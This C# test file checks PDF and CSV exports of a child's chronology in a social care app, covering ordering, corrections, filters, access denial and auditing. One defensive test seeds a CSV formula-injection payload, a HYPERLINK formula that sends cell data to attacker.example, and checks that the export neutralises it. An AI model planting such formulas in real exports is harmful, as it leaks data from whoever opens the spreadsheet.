using System.Net;
using System.Text;
using Lantern.Auditing;
using Lantern.Common;
using Lantern.Data;
using Lantern.Domain.Calendar;
using Lantern.Domain.Children;
using Lantern.Domain.Partnership;
using Lantern.Features.Chronology;
using Lantern.Testing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using UglyToad.PdfPig;

namespace Lantern.Tests.Children;

/// <summary>The chronology's PDF and CSV exports, read back as a meeting's reader would. Runs on SQLite and PostgreSQL.</summary>
public abstract class ChronologyExportTests
{
    private const string FrontDoorAgency = "Northbridge Children's Social Care";

    private readonly TestApp _app;

    protected ChronologyExportTests(TestApp app)
    {
        _app = app;
        Assert.SkipUnless(app.IsAvailable, $"{TestApp.PostgresVariable} is not set; scripts/test starts PostgreSQL and sets it.");
    }

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private DateTimeOffset Latest => _app.Time.GetUtcNow().AddDays(-1);

    private WorkingDayCalendar Calendar => _app.Services.GetRequiredService<WorkingDayCalendar>();

    [Fact]
    public async Task PdfExport_LongChronology_OpensWithEveryEntryInOrderAndTheAgencyAndDateOnEveryPage()
    {
        // Entry 5 is far longer than a page, so it must run on across pages.
        var longSummary = string.Join(' ', Enumerable.Range(0, 900).Select(w => $"word{w}")) + " EndOfLongSummary";
        var child = await TestChronology.SeedAsync(_app, 80, Latest, i => i == 5 ? $"{TestChronology.Marker(i)}: {longSummary}" : null);
        var client = await _app.SignInAsAsync(Role.Practitioner);

        var response = await client.GetAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/pdf", response.Content.Headers.ContentType?.MediaType);
        var fileName = response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName;
        Assert.Equal($"chronology-northbridge-children-s-social-care-{Calendar.LocalDate(_app.Time.GetUtcNow()):yyyy-MM-dd}.pdf", fileName?.Trim('"'));
        var exportedAt = "Exported " + Calendar.UkTime(_app.Time.GetUtcNow());
        using var pdf = PdfDocument.Open(await response.Content.ReadAsByteArrayAsync(Ct));
        var pages = pdf.GetPages().Select(p => string.Join(' ', p.GetWords().Select(w => w.Text))).ToList();
        // Wrapped text stays inside the margins (42 points each side of A4).
        Assert.All(pdf.GetPages().SelectMany(p => p.GetWords()), w => Assert.InRange(w.BoundingBox.Right, 0, 595.28 - 42 + 1));
        Assert.True(pages.Count >= 10, $"80 entries and a summary of 900 words should take at least 10 pages, not {pages.Count}");
        for (var n = 0; n < pages.Count; n++)
        {
            Assert.Contains(ChronologyExportPdf.Marking, pages[n], StringComparison.Ordinal);
            Assert.Contains(FrontDoorAgency, pages[n], StringComparison.Ordinal);
            Assert.Contains(exportedAt, pages[n], StringComparison.Ordinal);
            Assert.Contains("Amira Khan, born 14 May 2011", pages[n], StringComparison.Ordinal);
            Assert.Contains($"Page {n + 1} of {pages.Count}", pages[n], StringComparison.Ordinal);
            Assert.Contains("Exported by Tom Walsh", pages[n], StringComparison.Ordinal);
        }
        // Newest first: entry 0 happened last. Every marker appears once, in order.
        var text = string.Join(' ', pages);
        var positions = Enumerable.Range(0, 80).Select(i => text.IndexOf(TestChronology.Marker(i) + ":", StringComparison.Ordinal)).ToList();
        Assert.DoesNotContain(-1, positions);
        Assert.Equal(positions.Order(), positions);
        // The long summary is complete and ran on past the page where it started.
        var start = pages.FindIndex(p => p.Contains(TestChronology.Marker(5) + ":", StringComparison.Ordinal));
        var end = pages.FindIndex(p => p.Contains("EndOfLongSummary", StringComparison.Ordinal));
        Assert.True(end > start, $"the long summary started on page {start + 1} and ended on page {end + 1}");
        Assert.All(Enumerable.Range(0, 900), w => Assert.Contains($"word{w} ", text, StringComparison.Ordinal));
        Assert.Contains("Referral", text, StringComparison.Ordinal);
        Assert.Contains("Person: Mo (older man, about 25); Vehicle: NB19 XKR", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task PdfExport_Correction_ShowsBothEntriesMarked()
    {
        var child = await TestChronology.SeedAsync(_app, 3, Latest);
        var corrected = await _app.WithDbAsync(db => db.ChronologyEntries.Where(e => e.ChildId == child).OrderBy(e => e.OccurredAt).Select(e => e.Id).FirstAsync(Ct));
        await using (var scope = _app.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<LanternDbContext>();
            var agency = await db.Agencies.Where(a => a.Name == "Northbridge Police").Select(a => a.Id).SingleAsync(Ct);
            var original = await db.ChronologyEntries.SingleAsync(e => e.Id == corrected, Ct);
            var saved = original.Correct(new NewEntry(Latest.AddDays(-5), EntryType.PoliceIncident, "CorrectedVersion: the car was blue.",
                Significance.Significant, agency, "DC Sam Iqbal", CorrectionReason: "WrongColourGiven"), _app.Time.GetUtcNow());
            Assert.Null(saved.Failure);
            db.ChronologyEntries.Add(saved.Value);
            await db.SaveChangesAsync(Ct);
        }
        var client = await _app.SignInAsAsync(Role.Practitioner);

        var pdf = await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
        var csv = Csv(await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.csv", UriKind.Relative), Ct));

        using var document = PdfDocument.Open(pdf);
        var text = string.Join(' ', document.GetPages().SelectMany(p => p.GetWords()).Select(w => w.Text));
        Assert.Contains(TestChronology.Marker(2) + ":", text, StringComparison.Ordinal);
        Assert.Contains("CorrectedVersion:", text, StringComparison.Ordinal);
        Assert.Contains("SUPERSEDED: corrected by a later entry", text, StringComparison.Ordinal);
        Assert.Contains("CORRECTION of the entry", text, StringComparison.Ordinal);
        Assert.Contains("WrongColourGiven", text, StringComparison.Ordinal);
        var old = csv.Single(r => r[7].StartsWith(TestChronology.Marker(2), StringComparison.Ordinal));
        var correction = csv.Single(r => r[7].StartsWith("CorrectedVersion", StringComparison.Ordinal));
        Assert.Equal(correction[0], old[10]);
        Assert.Equal(old[0], correction[9]);
        Assert.Equal("WrongColourGiven", correction[11]);
    }

    [Fact]
    public async Task CsvExport_Filters_GiveTheRightRowsInTheRightOrder()
    {
        var child = await TestChronology.SeedAsync(_app, 120, Latest);
        var police = await _app.WithDbAsync(db => db.Agencies.Where(a => a.Name == "Northbridge Police").Select(a => a.Id).SingleAsync(Ct));
        var from = Calendar.LocalDate(TestChronology.OccurredAt(Latest, 100));
        var to = Calendar.LocalDate(TestChronology.OccurredAt(Latest, 10));
        var client = await _app.SignInAsAsync(Role.Practitioner);

        var response = await client.GetAsync(new Uri(
            $"/children/{child}/chronology.csv?agency={police}&significance=significant&from={from:yyyy-MM-dd}&to={to:yyyy-MM-dd}&order=oldest", UriKind.Relative), Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync(Ct);
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        var rows = Csv(bytes);
        Assert.Equal(ChronologyExportCsv.Columns, rows[0]);
        var expected = await _app.WithDbAsync(async db => (await db.ChronologyEntries.Where(e => e.ChildId == child && e.SourceAgencyId == police).ToListAsync(Ct))
            .Where(e => e.Significance >= Significance.Significant)
            .Where(e => Calendar.LocalDate(e.OccurredAt) >= from && Calendar.LocalDate(e.OccurredAt) <= to)
            .OrderBy(e => e.OccurredAt)
            .Select(e => e.Id.ToString())
            .ToList());
        Assert.NotEmpty(expected);
        Assert.Equal(expected, rows.Skip(1).Select(r => r[0]));
        Assert.All(rows.Skip(1), r =>
        {
            Assert.Equal("Northbridge Police", r[3]);
            Assert.True(r[6] is "Significant" or "Critical", r[6]);
            Assert.Matches(@"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$", r[1]);
            Assert.Equal("Person: Mo (older man, about 25); Vehicle: NB19 XKR; Phone: 07700 900123; Place: Canal Street takeaway", r[8]);
        });
    }

    [Fact]
    public async Task CsvExport_FormulaInCells_IsNeutralised()
    {
        var child = await TestChronology.SeedAsync(_app, 4, Latest, i => i switch
        {
            0 => "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
            1 => "+44 7700 900123 rang the school",
            2 => "-1 missed lessons, \"she said\"",
            _ => "@SUM(1+1)",
        });
        var client = await _app.SignInAsAsync(Role.Practitioner);

        var rows = Csv(await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.csv?order=oldest", UriKind.Relative), Ct));

        Assert.Equal(
            ["'@SUM(1+1)", "'-1 missed lessons, \"she said\"", "'+44 7700 900123 rang the school", "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"],
            rows.Skip(1).Select(r => r[7]));
    }

    [Fact]
    public async Task Export_NoInvolvement_IsNotFoundAndTheAttemptIsAudited()
    {
        var child = await TestChronology.SeedAsync(_app, 2, Latest);
        var nurse = await _app.SignInAsAsync(Role.HealthPractitioner);

        var pdf = await nurse.GetAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
        var csv = await nurse.GetAsync(new Uri($"/children/{child}/chronology.csv", UriKind.Relative), Ct);

        Assert.Equal(HttpStatusCode.NotFound, pdf.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, csv.StatusCode);
        var refusals = await Audit(child.ToString());
        Assert.Equal(2, refusals.Count(e => e.Code == (int)AuditCode.RecordNotInScope && e.Outcome == AuditOutcome.Denied && e.RecordType == "Child"));
        Assert.DoesNotContain(refusals, e => e.Code == (int)AuditCode.ChronologyExported);
    }

    [Fact]
    public async Task Export_WithAnActiveInvolvement_IsAllowed()
    {
        var child = await TestChronology.SeedAsync(_app, 2, Latest);
        await _app.WithDbAsync(async db =>
        {
            var nurse = await db.Users.SingleAsync(u => u.Email == TestApp.DemoAccountFor(Role.HealthPractitioner).Email, Ct);
            db.Involvements.Add(Involvement.Start(child, nurse.AgencyId, null, nurse.Id, "School nurse", null, null, nurse.Id, _app.Time.GetUtcNow()).Value);
            return await db.SaveChangesAsync(Ct);
        });
        var client = await _app.SignInAsAsync(Role.HealthPractitioner);

        var response = await client.GetAsync(new Uri($"/children/{child}/chronology.csv", UriKind.Relative), Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(3, Csv(await response.Content.ReadAsByteArrayAsync(Ct)).Count);
    }

    [Fact]
    public async Task Export_EachDownload_WritesOneAuditEventNamingFormatAndFilters()
    {
        var child = await TestChronology.SeedAsync(_app, 6, Latest);
        var client = await _app.SignInAsAsync(Role.Practitioner);

        await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.pdf", UriKind.Relative), Ct);
        await client.GetByteArrayAsync(new Uri($"/children/{child}/chronology.csv?type=Crime&order=oldest", UriKind.Relative), Ct);

        var exports = (await Audit(child.ToString())).Where(e => e.Code == (int)AuditCode.ChronologyExported).ToList();
        Assert.Equal(2, exports.Count);
        Assert.All(exports, e =>
        {
            Assert.Equal(AuditOutcome.Allowed, e.Outcome);
            Assert.Equal("Child", e.RecordType);
            Assert.Equal(TestApp.DemoAccountFor(Role.Practitioner).Email, e.ActorName);
        });
        Assert.StartsWith("PDF; entries: 6; filters: all agencies, all types, any significance, all dates, newest first", exports[0].Reason, StringComparison.Ordinal);
        Assert.StartsWith("CSV; entries: 1; filters: all agencies, type Crime, any significance, all dates, oldest first", exports[1].Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("significance=Huge", "significance")]
    [InlineData("type=Gossip", "type")]
    [InlineData("from=30/03/2026", "from")]
    [InlineData("from=2026-03-30&to=2026-03-01", "to")]
    [InlineData("order=sideways", "order")]
    [InlineData("agency=police", "agency")]
    public async Task Export_BadFilter_Is400NamingTheParameter(string query, string parameter)
    {
        var child = await TestChronology.SeedAsync(_app, 1, Latest);
        var client = await _app.SignInAsAsync(Role.Practitioner);

        var response = await client.GetAsync(new Uri($"/children/{child}/chronology.pdf?{query}", UriKind.Relative), Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = System.Text.Json.JsonDocument.Parse(await response.Content.ReadAsStringAsync(Ct));
        Assert.True(problem.RootElement.GetProperty("errors").TryGetProperty(parameter, out _), $"no error for {parameter}");
    }

    private Task<List<AuditEvent>> Audit(string recordId) =>
        _app.WithDbAsync(db => db.AuditEvents.AsNoTracking().Where(e => e.RecordId == recordId).OrderBy(e => e.Sequence).ToListAsync(Ct));

    /// <summary>An RFC 4180 reader: quoted fields, doubled quotes, CRLF between records.</summary>
    private static List<string[]> Csv(byte[] bytes)
    {
        var text = Encoding.UTF8.GetString(bytes.AsSpan(Encoding.UTF8.Preamble.Length));
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
                i++;
            }
            else
            {
                field.Append(c);
            }
        }
        Assert.All(rows, r => Assert.Equal(ChronologyExportCsv.Columns.Length, r.Length));
        return rows;
    }
}

public sealed class SqliteChronologyExportTests(SqliteTestApp app) : ChronologyExportTests(app), IClassFixture<SqliteTestApp>;

public sealed class PostgresChronologyExportTests(PostgresTestApp app) : ChronologyExportTests(app), IClassFixture<PostgresTestApp>;
